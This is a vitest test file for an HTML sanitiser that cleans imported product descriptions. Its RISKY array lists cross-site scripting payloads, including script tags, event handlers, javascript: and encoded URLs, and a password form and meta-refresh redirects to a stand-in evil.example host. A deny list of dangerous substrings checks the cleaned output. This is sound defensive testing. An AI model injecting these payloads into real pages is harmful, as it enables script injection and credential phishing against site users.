// The imported description's HTML sanitiser (ADR 022): what it drops, what it keeps, and that cleaning twice changes
// nothing (so an export imports back to the same description).
import { describe, expect, it } from "vitest";
import { sanitizeDescription } from "../../api/modules/imports/sanitize";

const RISKY = [
  '<script>alert(1)</script><p>ok</p>',
  '<img src="x" onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<svg onload="alert(1)"><circle/></svg>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
  '<style>body{display:none}</style><p style="position:fixed;top:0">x</p>',
  '<p onmouseover="alert(1)">hover</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="//evil.example/">protocol-relative</a>',
];

describe("description sanitiser", () => {
  it("drops scripts, handlers, frames, forms, styles and script or data URLs", () => {
    for (const html of RISKY) {
      const out = sanitizeDescription(html);
      for (const bad of ["<script", "onerror", "onload", "onmouseover", "javascript:", "vbscript:", "data:", "<iframe", "<object", "<embed", "<form", "<input", "<style", "style=", "<svg", "<meta", "<base", "evil.example", "xlink"]) {
        expect(out.toLowerCase(), `${html} → ${out}`).not.toContain(bad);
      }
    }
  });

  it("keeps formatting, lists, tables, https images and links (which open safely)", () => {
    expect(sanitizeDescription('<h4>Chất liệu</h4><p><strong>Vàng</strong> <em>18K</em><br>mới</p><ul><li>a</li></ul><table><tr><td colspan="2">x</td></tr></table>')).toBe(
      '<h4>Chất liệu</h4><p><strong>Vàng</strong> <em>18K</em><br />mới</p><ul><li>a</li></ul><table><tr><td colspan="2">x</td></tr></table>',
    );
    expect(sanitizeDescription('<img src="https://cdn.example/a.png" alt="A" width="40">')).toBe('<img src="https://cdn.example/a.png" alt="A" width="40" />');
    expect(sanitizeDescription('<a href="https://example.vn/" target="_blank">x</a>')).toBe('<a href="https://example.vn/" target="_blank" rel="noopener noreferrer">x</a>');
  });

  it("leaves text without markup exactly as written, and changes nothing when cleaning its own output", () => {
    for (const text of ['Tom & Jerry "quoted"\nline 2', "a < b", "5 > 3 && 2 < 4", ""]) {
      if (!text.includes("<")) expect(sanitizeDescription(text)).toBe(text);
      const once = sanitizeDescription(text);
      expect(sanitizeDescription(once)).toBe(once);
    }
    for (const html of RISKY) {
      const once = sanitizeDescription(html);
      expect(sanitizeDescription(once), html).toBe(once);
    }
  });
});
